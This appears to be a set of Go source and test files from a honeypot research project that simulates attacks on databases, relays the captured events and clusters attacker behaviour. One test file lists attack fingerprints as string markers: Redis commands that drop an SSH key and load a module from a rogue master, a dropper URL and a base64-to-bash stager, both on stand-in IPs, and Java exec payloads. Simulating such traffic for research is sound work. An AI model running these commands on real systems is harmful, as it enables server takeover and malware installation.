	farmAdmin := reservePorts(t, 1)[0]

	procs := make([]*tierProc, 2)
	procByRelay := map[string]*tierProc{}
	adminByRelay := map[string]string{}
	for i := range procs {
		procs[i] = &tierProc{
			bin: bin, relayAddr: relayAddrs[i], adminAddr: adminAddrs[i],
			peers:    []string{adminAddrs[1-i]},
			storeDir: filepath.Join(tmp, fmt.Sprintf("store%d", i)),
		}
		procByRelay[relayAddrs[i]] = procs[i]
		adminByRelay[relayAddrs[i]] = adminAddrs[i]
		procs[i].start(t)
	}
	t.Cleanup(func() {
		for _, p := range procs {
			if p.cmd != nil && p.cmd.Process != nil {
				p.cmd.Process.Kill()
				p.cmd.Wait()
			}
		}
	})

	// The rendezvous ranking decides the script's cast: the farm
	// prefers ranked[0] (the victim), and fails over to ranked[1].
	ranked := relay.RankEndpoints(farmRestartName, relayAddrs)
	victimAddr, survivorAddr := ranked[0], ranked[1]
	victim := procByRelay[victimAddr]

	// 900 events in 50-event frames: well under the fan-in's exact
	// MaxLimit page, so the merged unique count is exact and any
	// double-ingested event shows up as Events > UniqueIPs.
	const totalEvents, frameEvents = 900, 50
	spoolDir := filepath.Join(tmp, "spool")
	flood := startFarmHelper(t, "flood", spoolDir, relayAddrs, farmAdmin, totalEvents, frameEvents)
	t.Cleanup(func() {
		flood.Process.Kill()
		flood.Wait()
	})

	// Phase 1: wait for the victim to ack a frame, so the freeze lands
	// mid-conversation on an established connection.
	waitUntil(t, 15*time.Second, func() bool {
		st, ok := farmRelayStats(farmAdmin)
		return ok && endpointStats(st, victimAddr).EventsAcked > 0
	}, "victim collector to ack the first frames")

	// Phase 2: SIGSTOP the victim. Its kernel keeps accepting frame
	// bytes but the frozen process acks nothing, so the continuing
	// flood piles up frames journaled as pinned to the victim — the
	// acked-but-maybe-ingested limbo the ownership journal is for.
	if err := victim.cmd.Process.Signal(syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	waitUntil(t, 15*time.Second, func() bool {
		st, ok := farmRelayStats(farmAdmin)
		return ok && endpointStats(st, victimAddr).PinnedFrames >= 2
	}, "frames to pin to the frozen victim")

	// Phase 3: SIGKILL the victim (SIGKILL lands on stopped processes
	// too). The farm's connection resets, it fails over, and the rest
	// of the flood drains into the survivor — while the victim-pinned
	// frames hold the spool's mark floor down below everything the
	// survivor acks.
	if err := victim.cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	victim.cmd.Wait()
	waitUntil(t, 30*time.Second, func() bool {
		st, ok := farmRelayStats(farmAdmin)
		return ok && st.Enqueued == totalEvents &&
			endpointStats(st, survivorAddr).EventsAcked > 0 &&
			endpointStats(st, victimAddr).PinnedFrames >= 1
	}, "flood to finish with frames pinned to both collectors")

	// Phase 4: SIGKILL the farm. The spool WAL now holds frames pinned
	// to two collectors and a mark floor stuck under the victim's.
	if err := flood.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	flood.Wait()

	// Phase 5: restart the victim over its own store (its WAL replay
	// restores the farm's dedup mark), then restart the farm over the
	// same spool. The finish helper exits zero only after the spool
	// fully drains — every frame retransmitted and acked.
	victim.start(t)
	finish := startFarmHelper(t, "finish", spoolDir, relayAddrs, "", totalEvents, frameEvents)
	if err := finish.Wait(); err != nil {
		t.Fatalf("farm restart helper failed: %v\n%s", err, finish.Stdout.(*bytes.Buffer).String())
	}

	// The verdict: every collector's merged /query must hold each of
	// the 900 events exactly once. The flood gave every event its own
	// source address, so any frame replayed past its journaled owner
	// is ingested twice and pushes Events past UniqueIPs; a truncated
	// or degraded merge would flag Approx instead of lying.
	for _, adminAddr := range adminAddrs {
		adminAddr := adminAddr
		var q *obs.QueryResponse
		waitUntil(t, 15*time.Second, func() bool {
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			resp, err := obs.NewClient(adminAddr, 5*time.Second).Query(ctx, obs.QueryRequest{Limit: totalEvents + 50})
			if err != nil || resp.Tier == nil || resp.Tier.Responded != resp.Tier.Collectors {
				return false
			}
			q = resp
			return true
		}, "full tier to answer the merged query at "+adminAddr)
		if q.Tier.Approx {
			t.Fatalf("merged query at %s is approximate: %+v", adminAddr, q.Tier)
		}
		if q.Events != totalEvents || q.UniqueIPs != totalEvents || q.Total != totalEvents {
			t.Fatalf("merged capture at %s: events=%d unique=%d total=%d, want exactly %d each (a double-ingested frame inflates events past unique sources)",
				adminAddr, q.Events, q.UniqueIPs, q.Total, totalEvents)
		}
	}

	// And the split proves the restart really exercised two owners:
	// each collector ingested part of the stream, summing exactly.
	var sum int64
	for _, relayAddr := range relayAddrs {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		resp, err := obs.NewClient(adminByRelay[relayAddr], 5*time.Second).Query(ctx, obs.QueryRequest{Scope: obs.ScopeLocal})
		cancel()
		if err != nil {
			t.Fatalf("local query %s: %v", relayAddr, err)
		}
		if resp.Events == 0 {
			t.Fatalf("collector %s ingested nothing — the drill never split the stream across two owners", relayAddr)
		}
		sum += resp.Events
	}
	if sum != totalEvents {
		t.Fatalf("per-collector events sum to %d, want %d: an event was ingested on more than one collector", sum, totalEvents)
	}
}
