package simnet

import (
	"context"
	"testing"

	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
)

func TestBuildPopulationTotals(t *testing.T) {
	pop, err := BuildPopulation(7, 64, 20, geoip.Default())
	if err != nil {
		t.Fatal(err)
	}
	var low, brute, inst int
	seen := map[string]bool{}
	for _, a := range pop.Actors {
		if seen[a.Addr.String()] {
			t.Fatalf("duplicate actor address %v", a.Addr)
		}
		seen[a.Addr.String()] = true
		if a.LowGroups != 0 {
			low++
		}
		if a.Brute != nil {
			brute++
		}
		if a.Institutional && a.LowGroups != 0 {
			inst++
		}
		if len(a.Days) == 0 {
			t.Fatalf("actor %v has no active days", a.Addr)
		}
	}
	if low != LowTierIPs {
		t.Fatalf("low-tier actors = %d, want %d", low, LowTierIPs)
	}
	if brute != BruteForcers {
		t.Fatalf("brute actors = %d, want %d", brute, BruteForcers)
	}
	if inst != LowInstitutional {
		t.Fatalf("institutional low actors = %d, want %d", inst, LowInstitutional)
	}
	if got := len(pop.Exploiters); got != 324 {
		t.Fatalf("exploiters = %d, want 324", got)
	}
}

func TestBuildPopulationControlGroupSplit(t *testing.T) {
	pop, err := BuildPopulation(7, 64, 20, geoip.Default())
	if err != nil {
		t.Fatal(err)
	}
	var single, multi, both int
	var bruteSingle, bruteMulti, bruteBoth int
	for _, a := range pop.Actors {
		switch a.LowGroups {
		case targetSingleOnly:
			single++
		case targetMultiOnly:
			multi++
		case targetBoth:
			both++
		}
		if a.Brute != nil {
			if a.LowGroups != targetBoth {
				t.Fatalf("brute actor %v has connection mode %d", a.Addr, a.LowGroups)
			}
			switch a.Brute.Groups {
			case targetSingleOnly:
				bruteSingle++
			case targetMultiOnly:
				bruteMulti++
			default:
				bruteBoth++
			}
		}
	}
	if single != SingleOnlyIPs || both != BothGroupIPs {
		t.Fatalf("split = single %d / both %d, want %d / %d", single, both, SingleOnlyIPs, BothGroupIPs)
	}
	if multi != LowTierIPs-SingleOnlyIPs-BothGroupIPs {
		t.Fatalf("multi-only = %d", multi)
	}
	if bruteSingle != BruteSingleOnly || bruteMulti != BruteMultiOnly {
		t.Fatalf("brute split = %d/%d, want %d/%d", bruteSingle, bruteMulti, BruteSingleOnly, BruteMultiOnly)
	}
}

func TestBuildPopulationDeterministic(t *testing.T) {
	a, err := BuildPopulation(11, 64, 20, geoip.Default())
	if err != nil {
		t.Fatal(err)
	}
	b, err := BuildPopulation(11, 64, 20, geoip.Default())
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Actors) != len(b.Actors) {
		t.Fatalf("actor counts differ: %d vs %d", len(a.Actors), len(b.Actors))
	}
	for i := range a.Actors {
		x, y := a.Actors[i], b.Actors[i]
		if x.Addr != y.Addr || x.Seed != y.Seed || len(x.Days) != len(y.Days) {
			t.Fatalf("actor %d differs: %+v vs %+v", i, x, y)
		}
	}
}

func TestHeavyBruteForcers(t *testing.T) {
	pop, err := BuildPopulation(3, 64, 20, geoip.Default())
	if err != nil {
		t.Fatal(err)
	}
	var heavies []*Actor
	for _, a := range pop.Actors {
		if a.Brute != nil && a.Brute.Heavy {
			heavies = append(heavies, a)
		}
	}
	if len(heavies) != 4 {
		t.Fatalf("heavy brute-forcers = %d, want 4", len(heavies))
	}
	for _, a := range heavies {
		if a.ASN != 208091 || a.Country != "RU" {
			t.Fatalf("heavy actor origin = AS%d %s", a.ASN, a.Country)
		}
		if len(a.Days) < 16 || len(a.Days) > 19 {
			t.Fatalf("heavy actor active days = %d, want 16-19", len(a.Days))
		}
		// At scale 64: ~4.157M/64 ≈ 65k attempts.
		if a.Brute.MSSQL < 50000 || a.Brute.MSSQL > 80000 {
			t.Fatalf("heavy actor attempts = %d at scale 64", a.Brute.MSSQL)
		}
	}
}

func TestCredStream(t *testing.T) {
	c := newCredCorpus(1, 1)
	if len(c.users) != UniqueUsernames || len(c.passes) != UniquePasswords {
		t.Fatalf("corpus sizes = %d/%d", len(c.users), len(c.passes))
	}
	s := c.stream(42, topMSSQLCreds, "sa")
	u, p := s.next()
	if u != "sa" || p != "123" {
		t.Fatalf("first attempt = %s/%s, want sa/123 (default creds first)", u, p)
	}
	// The top-10 list is walked before the dictionary.
	for i := 1; i < 10; i++ {
		u, p = s.next()
		if [2]string{u, p} != topMSSQLCreds[i] {
			t.Fatalf("attempt %d = %s/%s", i, u, p)
		}
	}
	// Dictionary phase: mostly the default admin user.
	saCount := 0
	uniquePass := map[string]bool{}
	for i := 0; i < 1000; i++ {
		u, p = s.next()
		if u == "sa" {
			saCount++
		}
		uniquePass[p] = true
	}
	if saCount < 700 {
		t.Fatalf("sa share = %d/1000", saCount)
	}
	if len(uniquePass) < 500 {
		t.Fatalf("unique passwords in walk = %d", len(uniquePass))
	}
}

func TestCredCorpusScaling(t *testing.T) {
	c := newCredCorpus(1, 64)
	if len(c.users) != UniqueUsernames/64 || len(c.passes) != UniquePasswords/64 {
		t.Fatalf("scaled corpus = %d/%d", len(c.users), len(c.passes))
	}
	tiny := newCredCorpus(1, 1<<20)
	if len(tiny.users) < 40 || len(tiny.passes) < 400 {
		t.Fatalf("floor sizes = %d/%d", len(tiny.users), len(tiny.passes))
	}
}

// shortRunConfig compresses the integration runs for -short: a reduced
// virtual window and a higher brute-force divisor. Population quotas
// (actor counts, targeting splits, credential ordering) are invariant
// under both knobs, so the assertions stay meaningful — only the exact
// Table 8 behaviour quotas need the full 20-day window.
func shortRunConfig(seed int64) Config {
	return Config{Seed: seed, Scale: 1 << 14, Days: 3}
}

// TestRunSmall is the full-system integration test: run the entire
// simulated deployment and verify the dataset matches the
// paper-calibrated population quotas. Under -short it runs a compressed
// window (6 virtual days, higher scale divisor); the exact Table 8
// quota checks stay behind the full (long-mode) 20-day run.
func TestRunSmall(t *testing.T) {
	cfg := Config{Seed: 1, Scale: 4096}
	if testing.Short() {
		cfg = shortRunConfig(1)
	}
	days := cfg.withDefaults().Days
	store := evstore.New(core.ExperimentStart, days, geoip.Default())
	res, err := Run(context.Background(), cfg, store)
	if err != nil {
		t.Fatal(err)
	}
	if res.Sessions == 0 {
		t.Fatal("no sessions executed")
	}
	if float64(res.Errors) > 0.01*float64(res.Sessions) {
		t.Fatalf("error rate too high: %d/%d", res.Errors, res.Sessions)
	}

	// The event transport must be lossless in block mode, and every
	// enqueued event must have reached the store.
	if res.Bus.Dropped != 0 {
		t.Fatalf("bus dropped %d events in block mode", res.Bus.Dropped)
	}
	if res.Bus.Delivered != res.Bus.Enqueued {
		t.Fatalf("bus delivered %d of %d enqueued", res.Bus.Delivered, res.Bus.Enqueued)
	}
	if got := store.Events(); got != int64(res.Bus.Delivered) {
		t.Fatalf("store has %d events, bus delivered %d", got, res.Bus.Delivered)
	}

	recs := store.IPs()
	var low int
	for _, r := range recs {
		for k := range r.Per {
			if k.Level == core.Low {
				low++
				break
			}
		}
	}
	if low != LowTierIPs {
		t.Fatalf("low-tier unique IPs = %d, want %d", low, LowTierIPs)
	}

	if !testing.Short() {
		// Table 8 quotas must be exact: the classifier operates on real
		// captured traffic, so this validates the whole chain.
		for dbms, want := range mhTargets {
			c := classify.Count(recs, classify.ForDBMS(dbms))
			if c.Scanning != want.Scanning || c.Scouting != want.Scouting || c.Exploiting != want.Exploiting {
				t.Errorf("%s: got %d/%d/%d, want %d/%d/%d", dbms,
					c.Scanning, c.Scouting, c.Exploiting,
					want.Scanning, want.Scouting, want.Exploiting)
			}
		}
	}

	// MSSQL dominates logins; Redis sees none (paper Section 5).
	if store.Logins(evstore.Query{DBMS: core.Redis, Tier: evstore.LowTier}) != 0 {
		t.Error("redis logins observed on low tier")
	}
	mssql := store.Logins(evstore.Query{DBMS: core.MSSQL, Tier: evstore.LowTier})
	total := store.Logins(evstore.Query{Tier: evstore.LowTier})
	if float64(mssql)/float64(total) < 0.9 {
		t.Errorf("MSSQL login share = %d/%d", mssql, total)
	}

	// Top credential is sa/123 (Table 12).
	creds := store.Creds(evstore.Query{DBMS: core.MSSQL, Tier: evstore.LowTier})
	if len(creds) == 0 || creds[0].User != "sa" || creds[0].Pass != "123" {
		t.Errorf("top credential = %+v", creds[0])
	}
}

func TestRunDeterministicDataset(t *testing.T) {
	cfg := Config{Seed: 5, Scale: 1 << 14}
	if testing.Short() {
		cfg = shortRunConfig(5)
	}
	days := cfg.withDefaults().Days
	run := func() *evstore.Store {
		store := evstore.New(core.ExperimentStart, days, geoip.Default())
		if _, err := Run(context.Background(), cfg, store); err != nil {
			t.Fatal(err)
		}
		return store
	}
	a, b := run(), run()
	if a.Events() != b.Events() {
		t.Fatalf("event counts differ: %d vs %d", a.Events(), b.Events())
	}
	if a.Logins(evstore.Query{}) != b.Logins(evstore.Query{}) {
		t.Fatalf("login totals differ")
	}
	ra, rb := a.IPs(), b.IPs()
	if len(ra) != len(rb) {
		t.Fatalf("IP counts differ: %d vs %d", len(ra), len(rb))
	}
	for i := range ra {
		if ra[i].Addr != rb[i].Addr || ra[i].TotalLogins() != rb[i].TotalLogins() {
			t.Fatalf("record %d differs: %v vs %v", i, ra[i].Addr, rb[i].Addr)
		}
	}
}

func TestBuildHoneypots(t *testing.T) {
	hps := BuildHoneypots(core.DefaultDeployment(), 1)
	if len(hps) != 278 {
		t.Fatalf("handlers = %d, want 278", len(hps))
	}
}

func TestBuildHoneypotsExtended(t *testing.T) {
	hps := BuildHoneypots(core.ExtendedDeployment(), 1)
	if len(hps) != 288 {
		t.Fatalf("handlers = %d, want 288", len(hps))
	}
}
