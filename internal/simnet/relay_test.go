package simnet

import (
	"context"
	"net"
	"sync"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/relay"
)

// relayCountSink counts events; one instance is the local ground truth
// on the farm bus, another counts what the collector actually ingested.
type relayCountSink struct {
	mu sync.Mutex
	n  int
}

func (s *relayCountSink) Record(e core.Event) { _ = s.RecordBatch([]core.Event{e}) }
func (s *relayCountSink) RecordBatch(events []core.Event) error {
	s.mu.Lock()
	s.n += len(events)
	s.mu.Unlock()
	return nil
}
func (s *relayCountSink) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.n
}

// TestRelayForwardingSurvivesCollectorRestart is the end-to-end relay
// acceptance test: a flood scenario streams real protocol sessions
// through the bus into a ForwardSink, over real loopback TCP, into a
// Collector that is killed mid-run and restarted on the same address.
// At the end every recorded event must be accounted for exactly:
// ingested by the collector, still spooled/pending in the forwarder, or
// shed with attribution — and the collector must have ingested no
// duplicates despite the retransmissions the kill provokes.
func TestRelayForwardingSurvivesCollectorRestart(t *testing.T) {
	const token = "integration"
	ingested := &relayCountSink{}
	coll, err := relay.NewCollector(relay.CollectorOptions{Token: token}, ingested)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	served := make(chan error, 1)
	go func() { served <- coll.Serve(ln) }()

	fwd, err := relay.NewForwardSink(relay.ForwardOptions{
		Addrs: []string{addr}, Token: token, Farm: "sim",
		FrameEvents: 32,
		MinBackoff:  time.Millisecond, MaxBackoff: 20 * time.Millisecond,
		FlushTimeout: 10 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	local := &relayCountSink{}

	// Default bus options: Block policy, so the bus itself is lossless
	// and both sinks observe the identical event stream.
	type runOut struct {
		res *FloodResult
		err error
	}
	runDone := make(chan runOut, 1)
	go func() {
		res, err := RunFlood(context.Background(), FloodConfig{Seed: 1, FloodSessions: 1500}, local, fwd)
		runDone <- runOut{res, err}
	}()

	// Kill the collector as soon as the stream has started — sessions
	// are still being generated for seconds after, so frames spool and
	// the forwarder must reconnect and retransmit once it is back.
	deadline := time.Now().Add(10 * time.Second)
	for ingested.count() < 50 && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	if ingested.count() < 50 {
		t.Fatal("collector never saw the start of the stream")
	}
	coll.Close()
	if err := <-served; err != nil {
		t.Fatal(err)
	}
	// Leave it down long enough for live traffic to hit the dead port.
	time.Sleep(100 * time.Millisecond)
	ln2, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	go func() { served <- coll.Serve(ln2) }()
	// Wait for Serve to register ln2: the final Close below only stops
	// listeners it can see (see Collector.Close docs).
	for coll.Stats().Listeners == 0 && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	if coll.Stats().Listeners == 0 {
		t.Fatal("restarted collector never registered its listener")
	}

	out := <-runDone
	if out.err != nil {
		t.Fatal(out.err)
	}
	if out.res.Errors != 0 {
		t.Fatalf("%d torn sessions", out.res.Errors)
	}
	fwd.Flush()
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	coll.Close()
	if err := <-served; err != nil {
		t.Fatal(err)
	}

	recorded := uint64(local.count())
	fst := fwd.Stats()
	cst := coll.Stats()
	if recorded == 0 || out.res.Bus.Dropped != 0 {
		t.Fatalf("bus not lossless: recorded=%d dropped=%d", recorded, out.res.Bus.Dropped)
	}

	// The tentpole invariant: delivered + spooled + shed = recorded.
	// Nothing may be unaccounted for, in either direction.
	accounted := cst.Events + uint64(fst.SpoolEvents) + uint64(fst.Pending) + fst.Shed
	if accounted != recorded {
		t.Fatalf("unaccounted events: ingested %d + spooled %d + pending %d + shed %d = %d, recorded %d",
			cst.Events, fst.SpoolEvents, fst.Pending, fst.Shed, accounted, recorded)
	}
	// Forwarder-side books must balance independently.
	if fst.Enqueued+fst.Shed != recorded {
		t.Fatalf("forwarder books: enqueued %d + shed %d != recorded %d", fst.Enqueued, fst.Shed, recorded)
	}
	if fst.Enqueued != fst.EventsAcked+uint64(fst.SpoolEvents)+uint64(fst.Pending) {
		t.Fatalf("forwarder books: %+v", fst)
	}
	// Dedup held: the collector's sink saw exactly the deduplicated
	// count even though the restart forces retransmission.
	if uint64(ingested.count()) != cst.Events {
		t.Fatalf("collector sink has %d events, dedup counted %d", ingested.count(), cst.Events)
	}
	if fst.Reconnects == 0 {
		t.Fatal("forwarder never reconnected; the restart was not exercised")
	}
	if cst.DupFrames == 0 {
		t.Log("note: no retransmitted frames were in flight at the kill (timing-dependent)")
	}
	t.Logf("recorded=%d ingested=%d dupframes=%d reconnects=%d spool=%d shed=%d",
		recorded, cst.Events, cst.DupFrames, fst.Reconnects, fst.SpoolEvents, fst.Shed)
}
