package simnet

import (
	"encoding/base64"
	"regexp"
	"strings"
	"testing"
)

func TestP2PInfectCmdsShape(t *testing.T) {
	cmds := p2pinfectCmds("198.51.100.9", 8080, "deadbeefcafebabe")
	joined := ""
	for _, c := range cmds {
		joined += strings.Join(c, " ") + "\n"
	}
	// The Listing 1 fingerprint: SSH-key drop, rogue master, module load,
	// cleanup.
	for _, marker := range []string{
		"CONFIG SET dir /root/.ssh/",
		"CONFIG SET dbfilename authorized_keys",
		"CONFIG SET dbfilename exp.so",
		"SLAVEOF 198.51.100.9 8080",
		"MODULE LOAD /tmp/exp.so",
		"SLAVEOF NO ONE",
		"rm -rf /tmp/exp.so",
	} {
		if !strings.Contains(joined, marker) {
			t.Errorf("p2pinfect missing %q", marker)
		}
	}
}

func TestABCbotCmdsCarryIOC(t *testing.T) {
	cmds := abcbotCmds("203.0.113.5", 9000)
	joined := ""
	for _, c := range cmds {
		joined += strings.Join(c, " ") + "\n"
	}
	// The documented ABCbot IOC is the ff.sh dropper URL.
	if !strings.Contains(joined, "http://203.0.113.5:9000/ff.sh") {
		t.Fatalf("abcbot IOC missing:\n%s", joined)
	}
	if !strings.Contains(joined, "/var/spool/cron") {
		t.Fatal("cron drop path missing")
	}
}

func TestKinsingStagerDecodes(t *testing.T) {
	qs := kinsingQueries("198.51.100.7", "abc123")
	if len(qs) != 5 {
		t.Fatalf("queries = %d", len(qs))
	}
	// Extract and decode the base64 stager from the COPY statement.
	re := regexp.MustCompile(`echo (\S+) \| base64 -d \| bash`)
	m := re.FindStringSubmatch(qs[2])
	if m == nil {
		t.Fatalf("no stager in %q", qs[2])
	}
	script, err := base64.StdEncoding.DecodeString(m[1])
	if err != nil {
		t.Fatalf("stager not valid base64: %v", err)
	}
	s := string(script)
	// Listing 9 fingerprints: Prometei kill, pg.sh / pg2.sh fallbacks.
	for _, marker := range []string{"pkill -x zsvc", "pg.sh", "pg2.sh", "command -v curl"} {
		if !strings.Contains(s, marker) {
			t.Errorf("stager missing %q:\n%s", marker, s)
		}
	}
}

func TestRansomNoteTemplatesDiffer(t *testing.T) {
	a := ransomNote(0, "bc1qA", "a@x", "C1")
	b := ransomNote(1, "bc1qB", "b@x", "C2")
	if a == b {
		t.Fatal("templates identical")
	}
	if !strings.Contains(a, "0.0058 BTC") || !strings.Contains(b, "0.007 BTC") {
		t.Fatalf("amounts wrong:\n%s\n%s", a, b)
	}
	// Both carry their parameters.
	if !strings.Contains(a, "bc1qA") || !strings.Contains(b, "C2") {
		t.Fatal("parameters lost")
	}
}

func TestLuciferPayloadCarriesMiners(t *testing.T) {
	reqs := luciferReqs("198.51.100.3", 8000)
	joined := ""
	for _, r := range reqs {
		joined += r.method + " " + r.target + " " + r.body + "\n"
	}
	for _, marker := range []string{"script_fields", "Runtime.getRuntime().exec", "sss6", "sv6"} {
		if !strings.Contains(joined, marker) {
			t.Errorf("lucifer missing %q", marker)
		}
	}
}

func TestProbePayloads(t *testing.T) {
	if !strings.Contains(rdpPayload(), "Cookie: mstshash=") {
		t.Fatal("rdp payload missing cookie")
	}
	if !strings.HasSuffix(rdpPayload(), "\r\n") {
		t.Fatal("rdp payload must end at the cookie line (determinism)")
	}
	if jdwpPayload() != "JDWP-Handshake" {
		t.Fatal("jdwp payload")
	}
	craft := craftReqs()
	if len(craft) != 1 || !strings.Contains(craft[0].body, "GuzzleHttp") {
		t.Fatal("craft probe")
	}
	vmware := vmwareReqs()
	if len(vmware) != 1 || !strings.Contains(vmware[0].body, "RetrieveServiceContent") {
		t.Fatal("vmware probe")
	}
}
