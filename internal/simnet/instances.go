// Instance construction: turns the deployment plan into live honeypot
// handlers. Medium/high instances carry per-instance state (Redis
// keyspaces, MongoDB stores), exactly like the paper's per-container
// deployments.
package simnet

import (
	"encoding/json"
	"fmt"
	"sort"

	"decoydb/internal/core"
	"decoydb/internal/couchdb"
	"decoydb/internal/elastic"
	"decoydb/internal/fakedata"
	"decoydb/internal/mongo"
	"decoydb/internal/mssql"
	"decoydb/internal/mysql"
	"decoydb/internal/postgres"
	"decoydb/internal/redis"
)

// instance is one deployed honeypot with its handler.
type instance struct {
	info    core.Info
	handler core.Handler
}

// instSet indexes the deployment for target selection.
type instSet struct {
	all []*instance
	// Low tier, by DBMS, split by deployment group.
	lowMulti  map[string][]*instance
	lowSingle map[string][]*instance
	// Medium/high tier, by DBMS then config.
	med map[string]map[string][]*instance
}

// BuildHoneypots instantiates handlers for every instance in d. Exported
// for reuse by cmd/decoydb (live serving) and tests.
func BuildHoneypots(d *core.Deployment, seed int64) map[string]core.Handler {
	s := buildInstances(d, seed)
	out := make(map[string]core.Handler, len(s.all))
	for _, in := range s.all {
		out[in.info.ID()] = in.handler
	}
	return out
}

func buildInstances(d *core.Deployment, seed int64) *instSet {
	s := &instSet{
		lowMulti:  map[string][]*instance{},
		lowSingle: map[string][]*instance{},
		med:       map[string]map[string][]*instance{},
	}
	fakeSeed := seed
	for _, info := range d.Instances {
		in := &instance{info: info, handler: buildHandler(info, fakeSeed)}
		fakeSeed++
		s.all = append(s.all, in)
		switch {
		case info.Level == core.Low && info.Group == core.GroupMulti:
			s.lowMulti[info.DBMS] = append(s.lowMulti[info.DBMS], in)
		case info.Level == core.Low && info.Group == core.GroupSingle:
			s.lowSingle[info.DBMS] = append(s.lowSingle[info.DBMS], in)
		default:
			if s.med[info.DBMS] == nil {
				s.med[info.DBMS] = map[string][]*instance{}
			}
			s.med[info.DBMS][info.Config] = append(s.med[info.DBMS][info.Config], in)
		}
	}
	return s
}

func buildHandler(info core.Info, seed int64) core.Handler {
	switch info.DBMS {
	case core.MySQL:
		if info.Level != core.Low {
			// Medium interaction: logins accepted, text-protocol queries
			// answered — required for MySQL's exploit-grade actions
			// (INSERT, DROP TABLE, ...) to be observable at all.
			return mysql.NewMedium(mysql.MediumOptions{}).Handler()
		}
		return mysql.New().Handler()
	case core.MSSQL:
		return mssql.New().Handler()
	case core.Postgres:
		switch {
		case info.Level == core.Low:
			return postgres.New(postgres.ModeLow).Handler()
		case info.Config == core.ConfigNoLogin:
			return postgres.New(postgres.ModeNoLogin).Handler()
		default:
			return postgres.New(postgres.ModeOpen).Handler()
		}
	case core.Redis:
		opts := redis.Options{}
		if info.Config == core.ConfigFakeData {
			opts.FakeData = fakedata.New(seed).RedisLogins(200)
		}
		return redis.New(opts).Handler()
	case core.Elastic:
		return elastic.New().Handler()
	case core.MongoDB:
		store := mongo.NewStore()
		for _, doc := range fakedata.New(seed).MongoCustomers(200) {
			store.Insert("customers", "records", doc)
		}
		return mongo.New(store).Handler()
	case core.MariaDB:
		return mysql.NewMariaDB().Handler()
	case core.CouchDB:
		var seedDBs map[string][]json.RawMessage
		if info.Config == core.ConfigFakeData {
			gen := fakedata.New(seed)
			docs := make([]json.RawMessage, 50)
			for i := range docs {
				docs[i] = json.RawMessage(fmt.Sprintf(
					`{"name":%q,"email":%q,"card":%q}`,
					gen.Name(), gen.Email(), gen.CreditCard()))
			}
			seedDBs = map[string][]json.RawMessage{"customers": docs}
		}
		return couchdb.New(seedDBs).Handler()
	}
	panic("simnet: unknown DBMS " + info.DBMS)
}

// medAny returns medium/high instances of dbms across configs, in a
// deterministic order (target choice must be reproducible per seed).
func (s *instSet) medAny(dbms string) []*instance {
	configs := make([]string, 0, len(s.med[dbms]))
	for c := range s.med[dbms] {
		configs = append(configs, c)
	}
	sort.Strings(configs)
	var out []*instance
	for _, c := range configs {
		out = append(out, s.med[dbms][c]...)
	}
	return out
}
