package cluster_test

import (
	"fmt"

	"decoydb/internal/cluster"
)

// Example demonstrates the paper's Section 6.1 grouping method: action
// sequences become TF vectors, Ward-linkage agglomeration groups similar
// behaviours, and signature tagging names the campaigns.
func Example() {
	seqs := []cluster.Sequence{
		{ID: "198.51.100.1", Actions: []string{"INFO", "SET", "CONFIG SET dir", "SLAVEOF", "MODULE LOAD"}},
		{ID: "198.51.100.2", Actions: []string{"INFO", "SET", "CONFIG SET dir", "SLAVEOF", "MODULE LOAD"}},
		{ID: "203.0.113.9", Actions: []string{"INFO", "KEYS", "TYPE", "TYPE"}},
	}
	res := cluster.Run(seqs, 0.02)
	fmt.Println(res)

	raws := map[string][]string{
		"198.51.100.1": {"CONFIG SET dbfilename exp.so"},
		"198.51.100.2": {"CONFIG SET dbfilename exp.so"},
	}
	tags := cluster.TagClusters(res, raws)
	fmt.Println("cluster 0 tag:", tags[res.Labels[0]])
	// Output:
	// 3 sequences in 2 clusters
	// cluster 0 tag: p2pinfect
}
