// Package cluster implements the paper's adversary-grouping method
// (Section 6.1): each source IP's sequence of actions is a document,
// actions are terms, sequences become term-frequency vectors, and
// agglomerative hierarchical clustering with Ward linkage (over Euclidean
// distance) groups similar behaviours. Parameters such as hashes and
// target paths are already stripped from action tokens, so bot runs that
// randomise payload names still cluster together — the property the paper
// relies on.
//
// The agglomeration uses the nearest-neighbour-chain algorithm with the
// Lance–Williams update for Ward linkage, giving O(n²) time and memory,
// comfortable for the paper-scale populations (≈2,000 sequences per
// honeypot type).
package cluster

import (
	"fmt"
	"sort"
)

// Sequence is one source's ordered action list.
type Sequence struct {
	ID      string // typically the source IP
	Actions []string
}

// Vector is a dense TF vector over the corpus vocabulary.
type Vector []float64

// Vectorize converts sequences to TF vectors sharing one vocabulary.
// tf(t, d) = count(t in d) / len(d), duplicates included, exactly the
// definition in the paper.
func Vectorize(seqs []Sequence) ([]Vector, []string) {
	vocabIndex := map[string]int{}
	var vocab []string
	for _, s := range seqs {
		for _, a := range s.Actions {
			if _, ok := vocabIndex[a]; !ok {
				vocabIndex[a] = len(vocab)
				vocab = append(vocab, a)
			}
		}
	}
	vecs := make([]Vector, len(seqs))
	for i, s := range seqs {
		v := make(Vector, len(vocab))
		if len(s.Actions) == 0 {
			vecs[i] = v
			continue
		}
		inc := 1 / float64(len(s.Actions))
		for _, a := range s.Actions {
			v[vocabIndex[a]] += inc
		}
		vecs[i] = v
	}
	return vecs, vocab
}

// Merge records one agglomeration step: clusters A and B (indexes into
// the node array, where nodes 0..n-1 are the leaves and node n+i is the
// result of merge i) joined at the given height.
type Merge struct {
	A, B   int
	Height float64
}

// Dendrogram is the full merge history of an agglomerative run.
type Dendrogram struct {
	Leaves int
	Merges []Merge
}

// Linkage selects the inter-cluster distance update rule.
